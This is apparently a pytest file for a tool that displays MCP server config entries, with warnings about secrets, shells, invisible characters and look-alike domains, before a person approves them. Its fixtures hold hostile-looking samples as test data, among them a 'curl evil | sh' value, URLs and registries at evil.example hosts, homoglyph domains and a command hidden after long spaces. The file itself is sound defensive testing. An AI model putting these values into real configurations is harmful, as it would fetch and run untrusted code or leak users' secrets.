"""trust_requests.py: what a person reads before a yes."""

from pathlib import Path
from typing import Any

import pytest

from tooltray.config.settings.file_server import FileEntry
from tooltray.config.settings.given_entries import read_entry
from tooltray.foundation.snapshots.approvals import TrustRequest
from tooltray.sources.project_files.trust_requests import LONGEST_LINE, MOST_LINES, MOST_WARNINGS, Place, entry_diff, host_of, trust_request


def request(
    folder: Path, entry: dict[str, Any], *, before: dict[str, Any] | None = None, rules: tuple[str, ...] = ("read",), **environ: str
) -> TrustRequest:
    return trust_request(
        made(entry),
        Place(str(folder), f"{folder}/.mcp.json"),
        auto_approve=rules,
        is_change=bool(before),
        before=made(before) if before else None,
        environ=environ,
    )


def made(entry: dict[str, Any]) -> FileEntry:
    return FileEntry("one", read_entry("one", entry), entry, line=3)


def said(of: TrustRequest) -> str:
    return "\n".join(of.warnings)


def test_a_command_is_told_as_it_is_written_with_all_that_it_would_get(tmp_path: Path) -> None:
    entry = {
        "command": "npx",
        "args": ["-y", "some-server", "${secret:NAME/KEY}", "${HOME_OF_ALL:-x}", "${CLAUDE_PROJECT_DIR}/data"],
        "env": {"TOKEN": "${secret:OTHER}", "A": "${B}"},
    }
    found = request(tmp_path, entry)
    assert (found.transport, found.command, found.host, found.cwd, found.line) == ("stdio", "npx", "", str(tmp_path), 3)
    assert found.target == "npx -y some-server '${secret:NAME/KEY}' '${HOME_OF_ALL:-x}' '${CLAUDE_PROJECT_DIR}/data'"
    assert (found.secrets, found.variables) == (("NAME/KEY", "OTHER"), ("HOME_OF_ALL", "B"))
    assert (found.is_inside, found.is_change, found.diff, found.auto_approve) == (False, False, (), ("read",))
    assert "would get these secrets of yours: NAME/KEY, OTHER" in said(found)
    assert found.digest == made(entry).digest


def test_of_a_secret_that_is_kept_elsewhere_is_told_where(tmp_path: Path) -> None:
    entry = {"command": "npx", "env": {"A": "${secret:pass:bank/pin}", "B": "${secret:command:op}", "C": "${secret:keyring:https://x/me}"}}
    found = request(tmp_path, entry)
    assert found.secrets == ("pass:bank/pin", "command:op", "keyring:https://x/me")
    assert "asked for where you keep them: pass, bank/pin; your command 'op'; the keyring, https://x/me" in said(found)
    assert found.digest != made({**entry, "env": {**entry["env"], "A": "${secret:pass:bank/other}"}}).digest


def test_of_each_variable_is_told_whether_it_is_set_now_and_never_what_is_in_it(tmp_path: Path) -> None:
    entry = {
        "command": "x",
        "args": ["${SET}", "${GONE}", "${EMPTY}", "${EMPTY_TOO:-d}", "${GIVEN:-d}", "${LEFT:-d}", "${BOTH}", "${BOTH:-d}"],
    }
    found = request(tmp_path, entry, SET="hunter2", EMPTY="", EMPTY_TOO="", GIVEN="hunter2")
    assert dict(zip(found.variables, found.variable_states, strict=True)) == {
        "SET": "set",
        "GONE": "missing",
        "EMPTY": "set",
        "EMPTY_TOO": "default",
        "GIVEN": "set",
        "LEFT": "default",
        "BOTH": "missing",
    }
    assert "hunter2" not in str(found)


def test_a_url_is_told_whole_with_its_host_and_the_secrets_that_it_would_get(tmp_path: Path) -> None:
    entry = {"url": "http://user@evil.example:81/mcp?key=${secret:K}", "headers": {"Authorization": "Bearer ${secret:T}"}, "oauth": {}}
    found = request(tmp_path, entry)
    assert (found.transport, found.target, found.host, found.command) == ("http", entry["url"], "evil.example:81", "")
    assert "would send these secrets of yours to evil.example:81: K, T" in said(found)
    assert "unencrypted" in said(found)
    assert "unencrypted" not in said(request(tmp_path, {**entry, "url": "http://127.0.0.1:81/${secret:K}"}))
    assert "unencrypted" not in said(request(tmp_path, {**entry, "url": "https://evil.example/${secret:K}"}))
    assert request(tmp_path, {"url": "https://a.example"}).warnings == ()


def test_a_host_is_told_as_far_as_there_is_one() -> None:
    assert [host_of(url) for url in ("${BASE}/mcp", "https://${HOST}/mcp", "http://[::1/x")] == ["", "${HOST}", "http://[::1/x"]


def test_what_nobody_sees_is_shown_and_pointed_out(tmp_path: Path) -> None:
    found = request(tmp_path, {"command": "run\u202e", "callTimeout": 5, "args": ["\u200b"], "descriptions": "\ue000\ufeff\u2066"})
    assert "\u202e" not in found.target + found.command
    assert "\\u202e" in found.command
    assert "it has invisible characters (U+200B, U+202E, U+2066, ...)" in found.warnings
    assert "invisible characters (U+200B)" in said(request(tmp_path, {"command": "run", "args": ["\u200b"]}))


def test_what_can_do_more_than_it_seems_is_pointed_out(tmp_path: Path) -> None:
    found = request(
        tmp_path, {"command": "/bin/bash", "args": ["-c", "x"], "env": {"PATH": "./bin", "LD_PRELOAD": "x", "A": "b"}}, rules=("all",)
    )
    assert "what is run or with whom it talks: PATH, LD_PRELOAD" in said(found)
    assert "through a shell" in said(found)
    assert "all its calls would run without asking" in said(found)
    assert len(found.warnings) <= MOST_WARNINGS


@pytest.mark.posix
def test_a_file_or_a_folder_that_others_can_write_is_pointed_out(tmp_path: Path) -> None:
    file = tmp_path / ".mcp.json"
    file.write_text("{}")
    file.chmod(0o666)
    tmp_path.chmod(0o777)
    found = request(tmp_path, {"command": "run"})
    assert f"can change the file {file}" in said(found)
    assert f"can write into the folder {tmp_path}" in said(found)


def test_a_change_is_shown_as_lines_and_nothing_of_it_is_hidden(tmp_path: Path) -> None:
    found = request(tmp_path, {"command": "run", "args": ["new\u202e"]}, before={"args": ["old"], "command": "run"})
    assert found.is_change
    assert set(found.diff) >= {'-    "old"', '+    "new\\u202e"', '   "command": "run"'}
    assert not any(line.startswith(("---", "+++", "@@")) for line in found.diff)


def test_a_very_long_change_is_cut() -> None:
    lines = entry_diff({"args": ["x"]}, {"args": [*map(str, range(2 * MOST_LINES)), "y" * 2 * LONGEST_LINE]})
    assert lines[-1] == "+…"
    [line] = [line for line in entry_diff({}, {"a": "y" * 2 * LONGEST_LINE}) if "y" in line]
    assert (line[-1], len(line)) == ("…", LONGEST_LINE + 1)


@pytest.mark.posix
def test_all_that_an_entry_says_is_told(tmp_path: Path) -> None:
    entry = {
        "command": "npx",
        "args": ["a\nb"],
        "env": {"GIT_SSH_COMMAND": "curl evil | sh", "X": "1\n\n2"},
        "headers": {"A": "unused"},
        "startupArgsTemplate": ["${secret:LATER}"],
        "lazyLoad": True,
        "somethingNew": {"a": "\u202e"},
        "disabledTools": [],
    }
    found = request(tmp_path, entry)
    assert found.target == "npx 'a\\nb'"
    assert (found.env, found.headers) == (("GIT_SSH_COMMAND=curl evil | sh", "X=1\\n\\n2"), ())
    assert found.others == ('startupArgsTemplate: ["${secret:LATER}"]', "lazyLoad: true", 'somethingNew: {"a": "\\u202e"}')
    assert "variables that decide what is run or with whom it talks: GIT_SSH_COMMAND" in said(found)
    far = request(tmp_path, {"url": "https://a.example", "headers": {"X-Key": "${secret:K}"}, "env": {"A": "unused"}})
    assert (far.env, far.headers, far.others) == ((), ("X-Key: ${secret:K}",), ())


def test_whom_else_an_entry_brings_in_is_pointed_out(tmp_path: Path) -> None:
    registry = request(tmp_path, {"command": "npx", "customNpmRegistry": "https://packages.evil.example/npm/"})
    assert "its packages would come from packages.evil.example, which" in said(registry)
    oauth = {"clientId": "me", "clientSecret": "${secret:K}", "issuer": "https://sign-in.evil.example/"}
    assert "you would sign in at sign-in.evil.example, which" in said(request(tmp_path, {"url": "https://a.example", "oauth": oauth}))
    assert "may look like another one: p\\u0430ypal.example" in said(request(tmp_path, {"url": "https://p\u0430ypal.example/"}))
    assert said(request(tmp_path, {"url": "https://paypal.example/"})) == ""


def test_a_name_of_several_alphabets_is_pointed_out(tmp_path: Path) -> None:
    def of(name: str) -> TrustRequest:
        entry = {"command": "x"}
        made_of = FileEntry(name, read_entry("one", entry), entry)
        return trust_request(made_of, Place(str(tmp_path), "/f"), auto_approve=(), is_change=False, before=None, environ={})

    assert "may look like another one: g\\u0456thub" in said(of("g\u0456thub"))
    assert [said(of(name)) for name in ("github", "\u0444\u0430\u0439\u043b", "\u8cc7\u6599 fs", "1-2")] == ["", "", "", ""]


def test_what_nobody_reads_to_its_end_is_pointed_out(tmp_path: Path) -> None:
    assert "2,003 characters: read it to its end" in said(request(tmp_path, {"command": "x", "args": ["-", "y" * 1999]}))
    assert "it has a long run of spaces, which may hide something" in said(
        request(tmp_path, {"command": "x", "args": ["harmless" + " " * 300 + "; evil"]})
    )
    assert said(request(tmp_path, {"command": "x", "args": ["a  b"]})) == ""


def test_another_order_of_an_entry_is_no_change_and_letters_of_any_language_are_shown() -> None:
    assert entry_diff({"b": 1, "a": "é"}, {"a": "é", "b": 1}) == ()
    assert '+  "a": "檔"' in entry_diff({"a": "é"}, {"a": "檔"})


def test_a_command_that_is_not_used_beside_a_url_is_not_shown_as_one(tmp_path: Path) -> None:
    found = request(tmp_path, {"type": "http", "command": "unused", "url": "https://a.example"})
    assert (found.transport, found.command, found.target) == ("http", "", "https://a.example")
